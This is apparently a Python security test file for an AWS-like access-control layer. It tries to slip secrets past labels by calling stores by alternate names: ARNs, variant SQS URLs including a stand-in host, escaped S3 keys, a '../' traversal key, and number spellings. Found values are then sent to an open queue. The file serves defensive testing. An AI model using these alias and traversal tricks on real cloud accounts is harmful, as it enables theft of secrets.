"""A27: call an own store by another of its names, so that it is not known for what it is.

Why one secret for all: the place it is written to is open, whatever it is called.
"""

import json

import letters
from hands import by_library


def attack(hands):
    text = hands.secret()
    notes(hands, "open", text)
    jobs(hands, "open", text)
    news(hands, "open", text)
    flow(hands, "open", text)


def twin(hands):
    text = hands.secret()
    for writes in (notes, jobs, news, flow):
        writes(hands, "kept", text)


def notes(hands, whose, text):
    """A table by its name, its ARN, and within a batch by its ARN."""
    arn = hands.arn("dynamodb", f"table/{whose}-notes")
    hands.call("dynamodb", "PutItem", TableName=arn, Item=note(hands, "arn", text))
    batch = {arn: [{"PutRequest": {"Item": note(hands, "batch", text)}}]}
    hands.call("dynamodb", "BatchWriteItem", RequestItems=batch)


def jobs(hands, whose, text):
    """A queue by the spellings of its URL."""
    path = f"{hands.account}/{whose}-jobs"
    for url in (
        f"https://sqs.{hands.region}.amazonaws.com/{path}",
        f"https://{hands.region}.queue.amazonaws.com/{path}",
        f"https://SQS.{hands.region}.amazonaws.com/{path}",
        f"http://localhost:9324/queue/{hands.region}/{path}",
        f"https://queue.of.nobody.test/{path}",
    ):
        hands.call("sqs", "SendMessage", QueueUrl=url, MessageBody=text)


def news(hands, whose, text):
    """A topic, named as what a message may be sent to besides a topic."""
    hands.call("sns", "Publish", TargetArn=hands.arn("sns", f"{whose}-news"), Message=text)


def flow(hands, whose, text):
    """A stream by its ARN alone, and by both its names."""
    arn, record = hands.arn("kinesis", f"stream/{whose}-flow"), {"PartitionKey": hands.trial}
    hands.call("kinesis", "PutRecord", StreamARN=arn, Data=text.encode(), **record)
    both = {"StreamARN": arn, "StreamName": f"{whose}-flow"}
    hands.call("kinesis", "PutRecord", Data=text.encode(), **both, **record)


def note(hands, tail, text):
    """An item of this trial."""
    return {"id": {"S": f"{hands.trial}-{tail}"}, "text": {"S": text}}


# Read by another name, then told.


def by_table_arn(hands):
    arn = hands.arn("dynamodb", "table/vault")
    got = hands.call("dynamodb", "GetItem", TableName=arn, Key={"id": {"S": hands.trial}})
    tell(hands, got.told.get("Item", {}).get("text", {}).get("S"))


def by_number(hands):
    """Items under the number 1 are labelled, others are not."""
    spelled(hands, "1.0")


def by_exponent(hands):
    spelled(hands, "10e-1")


def by_sign(hands):
    spelled(hands, "+0001")


def spelled(hands, number):
    """Read this trial's item 1 by one of the number's spellings."""
    key = {"id": {"N": number}, "trial": {"S": hands.trial}}
    got = hands.call("dynamodb", "GetItem", TableName="numbers", Key=key)
    tell(hands, got.told.get("Item", {}).get("text", {}).get("S"))


def by_escapes(hands):
    """An object in a labelled folder, whose name is written in escapes; no SDK does, so by hand."""
    plain = letters.letter("s3", "GetObject", {"Bucket": "folders", "Key": f"dark/{hands.trial}"})
    headers = letters.signed(plain, letters.own_keys())
    _, found = by_library(plain._replace(path=f"/%64%61rk%2F{hands.trial}"), headers)
    tell(hands, found.decode())


def by_partial_arn(hands):
    """A secret whose own name ends like what AWS appends: its partial ARN is spelled like another's."""
    name = hands.arn("secretsmanager", "secret:partner-master")
    got = hands.call("secretsmanager", "GetSecretValue", SecretId=name)
    tell(hands, json.loads(got.told.get("SecretString", "{}")).get(hands.trial))


def by_reference(hands):
    """The same by Parameter Store's name for it."""
    name = "/aws/reference/secretsmanager/partner-master"
    got = hands.call("ssm", "GetParameter", Name=name, WithDecryption=True)
    tell(hands, json.loads(got.told.get("Parameter", {}).get("Value", "{}")).get(hands.trial))


# What may be a second name, or two at once, and nobody here can tell of what.


def by_strange_name(hands):
    text = hands.secret().encode()
    for bucket in ("open-files-k3j5h2-s3alias", hands.arn("s3", "accesspoint/open")):
        hands.call("s3", "PutObject", Bucket=bucket, Key=hands.trial, Body=text)
    hands.call("s3", "PutObject", Bucket="kept-files", Key=f"a/../../open-files/{hands.trial}", Body=text)
    stream = {"StreamName": "kept-flow", "StreamARN": hands.arn("kinesis", "stream/open-flow")}
    hands.call("kinesis", "PutRecord", Data=text, PartitionKey=hands.trial, **stream)
    index = hands.arn("dynamodb", "table/kept-notes/index/all")
    hands.call("dynamodb", "PutItem", TableName=index, Item=note(hands, "index", text.decode()))
    queue = {"QueueUrl": f"https://sqs.eu-south-2.amazonaws.com/{hands.account}/kept-jobs"}
    hands.call("sqs", "SendMessage", MessageBody=text.decode(), **queue)


def tell(hands, found):
    """Send what was found where anybody may look."""
    if found:
        hands.call("sqs", "SendMessage", QueueUrl=hands.queue("open-jobs"), MessageBody=found)
